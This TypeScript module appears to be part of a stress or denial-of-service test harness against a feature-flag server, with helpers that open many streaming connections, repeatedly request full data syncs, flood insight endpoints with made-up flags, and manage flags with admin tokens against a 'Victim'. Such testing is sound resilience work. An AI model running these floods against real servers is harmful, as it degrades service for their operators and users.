import { encodeConnectionToken } from 'fbclient/core';
import type { Random } from '../random.js';
import type { Victim } from './messages.js';
import { frame, open, pause, request, upgrade } from './peers.js';

export function askForEverything(): Buffer {
  return frame('{"messageType":"data-sync","data":{"timestamp":0}}');
}

export const OPENFEATURE = '/ofrep/v1/evaluate/flags';
export const CONTEXT = '{"context":{"targetingKey":"u"}}';

/** The address of an event stream, which comes with the answer of all flags. */
export async function eventStream({ url, clientSecret }: Victim): Promise<string> {
  const headers = { authorization: clientSecret, 'content-type': 'application/json' };
  const answer = await fetch(url + OPENFEATURE, { method: 'POST', headers, body: CONTEXT });
  const { eventStreams } = (await answer.json()) as { eventStreams: { endpoint: { requestUri: string } }[] };
  return eventStreams[0]?.endpoint.requestUri ?? '/';
}

/** Browsers that identify users again and again, and read what they are answered. */
export async function identify(
  howMany: number,
  interval: number,
  name: string,
  victim: Victim,
  random: Random,
  signal: AbortSignal,
  count: () => void,
): Promise<void> {
  const one = async (): Promise<void> => {
    const socket = open(victim, [browser(victim, random)]);
    socket.resume();
    for (let number = 0; !signal.aborted && !socket.destroyed; number++) {
      const user = { keyId: `u${number}`, name, customizedProperties: [] };
      // A peer that does not keep up is waited for: the attack is on the center, not on this process.
      if (socket.writableLength < 100_000) {
        socket.write(frame(JSON.stringify({ messageType: 'data-sync', data: { timestamp: 0, user } })));
        count();
      }
      await pause(interval, signal);
    }
    socket.destroy();
    if (!signal.aborted) await one();
  };
  await Promise.all(Array.from({ length: howMany }, one));
}

/** The body of insights of made-up flags. */
export function evaluations(howMany: number, random: Random): string {
  const name = random.between(0, 1e9).toString(36);
  const variations = Array.from({ length: howMany }, (_, index) => ({
    featureFlagKey: `${name}-${index}`,
    variation: { id: 'on' },
  }));
  return JSON.stringify([{ user: { keyId: 'u' }, variations }]);
}

export async function post({ url }: Victim, path: string, authorization: string, body: unknown): Promise<void> {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const answer = await fetch(url + path, { method: 'POST', headers: { authorization }, body: text });
  await answer.arrayBuffer();
}

export async function put(victim: Victim, environment: string, flag: object): Promise<void> {
  const { key } = flag as { readonly key: string };
  await manage(victim, 'PUT', `environments/${environment}/flags/${key}`, JSON.stringify(flag));
}

/** What somebody does who manages the center. */
export async function manage({ url, adminToken }: Victim, method: string, path: string, body?: string): Promise<void> {
  const answer = await fetch(`${url}/api/v1/${path}`, {
    method,
    headers: { authorization: `Bearer ${adminToken}` },
    ...(body === undefined ? {} : { body }),
  });
  await answer.arrayBuffer();
}

/** Polls what is newer than a version, which may never have been one. */
export async function pollSince({ url, serverSecret: authorization }: Victim, version: number): Promise<void> {
  const answer = await fetch(`${url}/api/public/sdk/server/latest-all?timestamp=${version}`, {
    headers: { authorization },
  });
  await answer.arrayBuffer();
}

/** A request of somebody who manages the center. */
export function managed(method: string, path: string, { adminToken }: Victim): string {
  return request(method, `/api/v1/${path}`, `Bearer ${adminToken}`);
}

/** The upgrade of a browser to the environment that the good SDKs stream. */
export function browser({ goodClientSecret }: Victim, random: Random): string {
  const token = encodeURIComponent(encodeConnectionToken(goodClientSecret, Date.now(), random.next()));
  return upgrade(`/streaming?type=client&token=${token}`, 'A'.repeat(22));
}
